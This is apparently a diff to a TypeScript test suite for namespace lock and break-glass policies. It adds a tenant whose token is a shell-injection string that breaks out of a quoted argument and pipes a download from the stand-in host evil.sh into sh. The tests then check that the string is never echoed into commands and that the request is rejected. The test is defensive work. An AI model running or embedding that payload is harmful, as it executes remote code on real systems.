@@ -63,6 +63,9 @@ import type { PolicyWorld } from '../../support/policies/policy-world.ts';
 let world: PolicyWorld;
 /** Already has the annotation break-glass. */
 const GLASS_BROKEN = 'tenant-glass-broken';
+/** Its token would end the quoted argument of a command. */
+const HOSTILE = 'tenant-token-hostile';
+const HOSTILE_TOKEN = "x'; curl evil.sh | sh; '";
 /** Without a lock, with the records of earlier ones. */
 const RECORDED = 'tenant-recorded';
 const RESERVED = [
@@ -80,6 +83,7 @@ beforeAll(async () => {
   const annotations = { ...held.annotations, [ANNOTATION.breakGlass]: TOKEN };
   world = await startPolicyTenants([
     [GLASS_BROKEN, { ...held, annotations }, []],
+    [HOSTILE, { ...held, annotations: { ...held.annotations, [ANNOTATION.token]: HOSTILE_TOKEN } }, []],
     [RECORDED, { annotations: Object.fromEntries(RECORDS.map((key) => [key, '{}'])) }, []],
     ...RESERVED.map((name): Extra => [name, held, []]),
   ]);
@@ -171,6 +175,7 @@ describe(POLICY.lockKeys, () => {
     for (const [namespace, token] of [
       [LOCKED, TOKEN],
       [BROKEN, UNREADABLE_TOKEN],
+      [HOSTILE, UNREADABLE_TOKEN],
     ] as const) {
       expect(await world.ask('editor', label(namespace, null))).toMatchObject({
         text: expect.stringContaining(breakGlassCommand({ namespace, token })),
@@ -183,7 +188,8 @@ describe(POLICY.lockKeys, () => {
     expect(await world.ask('repairer', broken)).toMatchObject({ by: lockKeys });
     await world.breakGlass('repairer');
     await world.eventually('repairer', broken, 'none');
-    expect(await world.ask('repairer', breakGlass(BROKEN, UNREADABLE_TOKEN))).toEqual({ by: 'none' });
+    for (const namespace of [BROKEN, HOSTILE])
+      expect(await world.ask('repairer', breakGlass(namespace, UNREADABLE_TOKEN))).toEqual({ by: 'none' });
     expect(await world.ask('repairer', annotate(LOCKED, ANNOTATION.breakGlass, TOKEN))).toEqual({
       by: 'none',
     });
@@ -195,6 +201,7 @@ describe(POLICY.lockKeys, () => {
       breakGlass(LOCKED, UNREADABLE_TOKEN),
       breakGlass(BROKEN, TOKEN),
       breakGlass(BROKEN, ''),
+      breakGlass(HOSTILE, HOSTILE_TOKEN),
       replaceNamespace(FREE),
     ]) {
       expect(await world.ask('repairer', request)).toMatchObject({ by: lockKeys, code: 403 });
